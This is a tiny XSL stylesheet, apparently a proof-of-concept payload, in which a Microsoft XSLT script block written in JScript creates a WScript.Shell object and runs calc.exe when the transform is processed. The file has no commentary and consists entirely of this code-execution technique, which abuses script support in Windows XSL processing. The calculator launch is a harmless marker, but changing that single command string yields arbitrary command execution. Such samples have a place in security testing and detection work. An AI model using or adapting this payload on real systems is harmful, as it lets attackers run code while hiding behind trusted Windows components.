<?xml version="1.0"?>
<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="x" version="1.0"><output method="text"/>
<ms:script implements-prefix="user" language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell").Run("calc.exe"); ]]></ms:script></stylesheet>
